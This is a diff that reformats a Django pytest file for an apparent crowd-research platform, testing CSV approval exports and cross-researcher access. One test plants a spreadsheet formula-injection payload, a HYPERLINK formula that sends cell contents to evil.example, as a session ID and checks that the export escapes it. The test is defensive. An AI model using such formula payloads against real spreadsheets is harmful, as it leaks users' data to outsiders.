@@ -20,24 +20,46 @@ pytestmark = pytest.mark.django_db
 
 
 def prolific(study, n, answer_trials, policy):
-    a = assignment_start(study=study, platform="prolific", worker_id=f"PID-SECRET-{n}",
-                         platform_info={"study_id": "PSTUDY", "session_id": f"SESSION-{n}"}).assignment  # fmt: skip
+    a = assignment_start(
+        study=study,
+        platform="prolific",
+        worker_id=f"PID-SECRET-{n}",
+        platform_info={"study_id": "PSTUDY", "session_id": f"SESSION-{n}"},
+    ).assignment
     answer_trials(a, policy)
     return assignment_submit(token=a.token)
 
 
-def test_only_real_kept_submissions_are_approved(make_study, answer_trials, researcher_carol, researcher_dave):
-    study = make_study(n_test=12, n_sentinels=4, n_practice=0, owner=researcher_carol,
-                       config={"hit_size": 4, "exclusion": {"min_sentinel_accuracy": 1.0}})  # fmt: skip
+def test_only_real_kept_submissions_are_approved(
+    make_study, answer_trials, researcher_carol, researcher_dave
+):
+    study = make_study(
+        n_test=12,
+        n_sentinels=4,
+        n_practice=0,
+        owner=researcher_carol,
+        config={"hit_size": 4, "exclusion": {"min_sentinel_accuracy": 1.0}},
+    )
     honest = prolific(study, 1, answer_trials, lambda t, i: i.expected or "p0")
     clicker = prolific(study, 2, answer_trials, lambda t, i: {"p0": "p1", "p1": "p0"}.get(i.expected) or "p0")
     rejected = prolific(study, 3, answer_trials, lambda t, i: i.expected or "p1")
     assignment_reject(assignment=rejected, reason="copied answers")
-    assignment_start(study=study, platform="prolific", worker_id="PID-SECRET-4",
-                     platform_info={"study_id": "PSTUDY", "session_id": "SESSION-4"})  # started, never finished
-    mturk = assignment_start(study=study, platform="mturk", worker_id="AWORKERSECRET",
-                             platform_info={"hit_id": "HIT9", "assignment_id": "ASSIGN9",
-                                            "turk_submit_to": "https://www.mturk.com"}).assignment  # fmt: skip
+    assignment_start(
+        study=study,
+        platform="prolific",
+        worker_id="PID-SECRET-4",
+        platform_info={"study_id": "PSTUDY", "session_id": "SESSION-4"},
+    )  # started, never finished
+    mturk = assignment_start(
+        study=study,
+        platform="mturk",
+        worker_id="AWORKERSECRET",
+        platform_info={
+            "hit_id": "HIT9",
+            "assignment_id": "ASSIGN9",
+            "turk_submit_to": "https://www.mturk.com",
+        },
+    ).assignment
     answer_trials(mturk, lambda t, i: i.expected or "p0")
     assignment_submit(token=mturk.token)
     assert clicker.excluded and not honest.excluded
@@ -60,8 +82,12 @@ def test_only_real_kept_submissions_are_approved(make_study, answer_trials, rese
     r = client.get(f"/api/v1/studies/{study.pk}/completions/?format=csv")
     assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
     table = list(csv.DictReader(io.StringIO(r.content.decode())))
-    assert {row["session_id"]: row["approve"] for row in table} == {"SESSION-1": "true", "SESSION-2": "false",
-                                                                  "SESSION-3": "false", "ASSIGN9": "true"}  # fmt: skip
+    assert {row["session_id"]: row["approve"] for row in table} == {
+        "SESSION-1": "true",
+        "SESSION-2": "false",
+        "SESSION-3": "false",
+        "ASSIGN9": "true",
+    }
     # another researcher learns nothing, not even that the study exists
     other = APIClient()
     other.force_authenticate(researcher_dave)
@@ -69,14 +95,22 @@ def test_only_real_kept_submissions_are_approved(make_study, answer_trials, rese
     assert other.get(f"/api/v1/studies/{study.pk}/completions/?format=csv").status_code == 404
 
 
-def test_a_crafted_session_id_cannot_run_in_the_researchers_spreadsheet(make_study, answer_trials, researcher_carol):
+def test_a_crafted_session_id_cannot_run_in_the_researchers_spreadsheet(
+    make_study, answer_trials, researcher_carol
+):
     study = make_study(n_test=4, n_sentinels=1, n_practice=0, owner=researcher_carol, config={"hit_size": 2})
     evil = '=HYPERLINK("https://evil.example/?"&A1,"pay me")'
-    a = assignment_start(study=study, platform="prolific", worker_id="PID-X",
-                         platform_info={"study_id": "S", "session_id": evil}).assignment  # fmt: skip
+    a = assignment_start(
+        study=study,
+        platform="prolific",
+        worker_id="PID-X",
+        platform_info={"study_id": "S", "session_id": evil},
+    ).assignment
     answer_trials(a, lambda t, i: i.expected or "p0")
     assignment_submit(token=a.token)
     client = APIClient()
     client.force_authenticate(researcher_carol)
-    (row,) = csv.DictReader(io.StringIO(client.get(f"/api/v1/studies/{study.pk}/completions/?format=csv").content.decode()))
+    (row,) = csv.DictReader(
+        io.StringIO(client.get(f"/api/v1/studies/{study.pk}/completions/?format=csv").content.decode())
+    )
     assert row["session_id"] == "'" + evil
